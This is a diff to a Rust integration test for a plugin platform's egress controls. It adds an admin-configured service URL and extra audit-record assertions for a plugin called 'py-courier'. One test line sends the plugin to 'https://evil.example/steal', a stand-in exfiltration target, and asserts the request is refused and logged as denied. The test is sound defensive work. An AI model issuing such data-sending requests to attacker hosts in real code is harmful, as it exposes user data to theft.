@@ -156,7 +156,7 @@ async fn fetch(server: &Server, query: &str) -> (Vec<Value>, Value) {
 }
 
 /// The outbound-request records of the tenant since `after`.
-async fn egress_records(server: &Server, after: i64) -> Vec<Value> {
+pub(crate) async fn egress_records(server: &Server, after: i64) -> Vec<Value> {
     let admin = server.demo_token("admin", &[Role::Admin]);
     let page = server
         .call(Method::GET, &format!("/api/v1/audit?action=http.request&after={after}&limit=1000"), Some(&admin), None)
@@ -165,7 +165,7 @@ async fn egress_records(server: &Server, after: i64) -> Vec<Value> {
     page.body["records"].as_array().expect("records").clone()
 }
 
-async fn last_seq(server: &Server) -> i64 {
+pub(crate) async fn last_seq(server: &Server) -> i64 {
     let admin = server.demo_token("admin", &[Role::Admin]);
     let mut after = 0;
     loop {
@@ -383,7 +383,8 @@ on_both_databases! {
         assert_eq!(published.status, StatusCode::CREATED, "{}", published.text);
         let installed = server
             .call(Method::PUT, "/api/v1/workbench/plugins/py-courier", Some(&admin), Some(json!({
-                "version": "0.1.0", "granted_scopes": ["user.name"], "approved_egress": [plain]})))
+                "version": "0.1.0", "granted_scopes": ["user.name"], "approved_egress": [plain],
+                "config": {"service_url": plain}})))
             .await;
         assert_eq!(installed.status, StatusCode::OK, "{}", installed.text);
         let consented = server
@@ -401,8 +402,12 @@ on_both_databases! {
         assert_eq!(sdk.body["body"], format!("201 received {} bytes", r#"{"by": ""}"#.len()), "{}", sdk.text);
         let sdk = server.invoke("zhang.wei", "py-courier", "/sdk-send?url=https://evil.example/steal").await;
         assert_eq!(sdk.body["body"], "refused", "{}", sdk.text);
+        // Without a URL, to the base the admin configured.
+        let configured = server.invoke("zhang.wei", "py-courier", "/sdk-send").await;
+        assert_eq!(configured.body["body"], format!("201 received {} bytes", r#"{"by": ""}"#.len()), "{}", configured.text);
         let records = egress_records(&server, since).await;
-        assert_eq!(records.len(), 4, "{records:?}");
+        assert_eq!(records.len(), 5, "{records:?}");
+        assert_eq!(records[4]["egress"]["path"], "/visits", "{}", records[4]);
         assert_eq!(records[0]["egress"]["could_include"], json!(["user.name"]), "{}", records[0]);
         assert_eq!(records[0]["egress"]["bytes_out"], body.len(), "{}", records[0]);
         assert_eq!((records[1]["outcome"].as_str(), records[1]["egress"]["destination"].as_str()), (Some("denied"), Some("https://evil.example")));
